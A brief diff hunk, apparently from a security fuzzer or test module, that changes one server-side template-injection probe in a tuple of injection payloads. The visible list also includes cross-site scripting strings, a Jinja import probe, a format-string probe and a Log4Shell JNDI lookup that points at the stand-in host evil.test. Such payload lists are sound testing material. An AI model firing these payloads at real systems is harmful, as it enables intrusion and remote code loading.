@@ -36,7 +36,7 @@ PIECES = (
     '"><svg onload=alert(1)>',
     "' onmouseover='alert(1)",
     "javascript:alert(1)",
-    "{{7*7777}}",
+    "{{7777777*7777777}}",
     "{%import os%}",
     "${jndi:ldap://evil.test/a}",
     "%s%n%(name)s",
